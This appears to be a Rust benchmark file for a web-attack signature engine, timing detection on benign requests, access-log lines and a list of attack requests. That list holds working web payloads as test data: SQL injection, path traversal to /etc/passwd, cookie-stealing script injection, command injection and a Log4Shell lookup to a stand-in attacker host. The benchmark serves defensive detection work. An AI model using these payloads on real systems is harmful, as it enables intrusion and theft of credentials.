//! Signature-engine cost per request at paranoia 1 (the default): benign and attack
//! requests as the proxy and `/api/v1/check` see them, and stored access-log lines as
//! the ingest inspector sees them (method, target, protocol, Host, User-Agent,
//! Referer). Log lines come from `PALISADE_BENCH_LOG` (e.g. the generated 1M-line
//! file), else the real logs in `../shared/data/access-logs`, else built-in lines.
//!
//! `cargo bench -p palisade-detect --bench engine`

use std::hint::black_box;
use std::path::{Path, PathBuf};

use criterion::{Criterion, Throughput, criterion_group, criterion_main};
use palisade_detect::{Engine, EngineConfig, HttpRequest, RuleSet};
use palisade_formats::{FormatSpec, build};

const BENIGN: &[(&str, &str)] = &[
    ("GET", "/"),
    ("GET", "/index.html"),
    ("GET", "/static/app.3f9c2a.js"),
    ("GET", "/products?page=2&sort=price&q=blue+shoes"),
    (
        "GET",
        "/blog/2024/03/how-we-ship?utm_source=newsletter&utm_medium=email",
    ),
    ("GET", "/api/v1/items/12345"),
];

const ATTACKS: &[(&str, &str)] = &[
    (
        "GET",
        "/search?q=1%27%20UNION%20SELECT%20password%20FROM%20users--",
    ),
    ("GET", "/page?file=../../../../etc/passwd"),
    (
        "GET",
        "/q?x=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
    ),
    ("GET", "/cgi-bin/test?cmd=;cat%20/etc/passwd"),
    ("GET", "/?x=${jndi:ldap://evil.example/a}"),
    ("GET", "/scripts/..%c0%af../winnt/system32/cmd.exe?/c+dir"),
];

const UA: &str = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36";

fn request(method: &str, uri: &str) -> HttpRequest {
    HttpRequest {
        method: method.into(),
        uri: uri.into(),
        protocol: "HTTP/1.1".into(),
        headers: vec![
            ("host".into(), "shop.example.com".into()),
            ("user-agent".into(), UA.into()),
            ("accept".into(), "text/html,application/xhtml+xml".into()),
            ("accept-language".into(), "en-GB,en;q=0.9".into()),
            ("cookie".into(), "session=4f1c2b9a8e7d; theme=dark".into()),
        ],
        ..Default::default()
    }
}

/// Access-log lines: the file named by `PALISADE_BENCH_LOG`, else the shared real logs.
fn log_lines() -> Vec<Vec<u8>> {
    let mut files: Vec<PathBuf> = std::env::var_os("PALISADE_BENCH_LOG")
        .map(PathBuf::from)
        .into_iter()
        .collect();
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared/data/access-logs");
    files.push(dir.join("elastic_apache_logs.log"));
    files.push(dir.join("honeynet-2004/access_log.24"));
    for f in files {
        if let Ok(data) = std::fs::read(&f) {
            eprintln!("log lines from {}", f.display());
            return data
                .split(|&b| b == b'\n')
                .filter(|l| !l.is_empty())
                .take(20_000)
                .map(<[u8]>::to_vec)
                .collect();
        }
    }
    eprintln!("no access log found, using built-in lines");
    vec![
        br#"66.249.73.135 - - [17/May/2015:10:05:40 +0000] "GET /blog/tags/ipv6 HTTP/1.1" 200 12251 "-" "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)""#.to_vec(),
    ]
}

/// The request a stored log line stands for, as the ingest inspector rebuilds it.
fn log_requests() -> Vec<HttpRequest> {
    let Ok(parser) = build(&FormatSpec::Combined) else {
        return Vec::new();
    };
    log_lines()
        .iter()
        .filter_map(|l| parser.parse(l).ok())
        .filter_map(|e| HttpRequest::from_log_event(&e))
        .collect()
}

fn bench(c: &mut Criterion) {
    let Ok(rules) = RuleSet::builtin() else {
        return;
    };
    let engine = Engine::new(rules, EngineConfig::default());
    let run = |c: &mut Criterion, name: &str, reqs: &[HttpRequest]| {
        let mut g = c.benchmark_group("engine");
        g.throughput(Throughput::Elements(reqs.len() as u64));
        g.bench_function(name, |b| {
            b.iter(|| {
                let mut score = 0u32;
                for r in reqs {
                    score += engine.inspect(black_box(r)).score;
                }
                score
            })
        });
        g.finish();
    };
    let benign: Vec<HttpRequest> = BENIGN.iter().map(|(m, u)| request(m, u)).collect();
    let attacks: Vec<HttpRequest> = ATTACKS.iter().map(|(m, u)| request(m, u)).collect();
    let logs = log_requests();
    let (benign_logs, attack_logs): (Vec<HttpRequest>, Vec<HttpRequest>) = logs
        .into_iter()
        .partition(|r| engine.inspect(r).findings.is_empty());
    eprintln!(
        "log lines: {} benign (no finding), {} with findings",
        benign_logs.len(),
        attack_logs.len()
    );
    run(c, "benign_request", &benign);
    run(c, "attack_request", &attacks);
    run(c, "benign_log_line", &benign_logs);
    if !attack_logs.is_empty() {
        run(c, "attack_log_line", &attack_logs);
    }
}

// criterion_group! generates an undocumented public function.
#[allow(missing_docs)]
mod group {
    use super::*;
    criterion_group!(benches, bench);
}
use group::benches;
criterion_main!(benches);
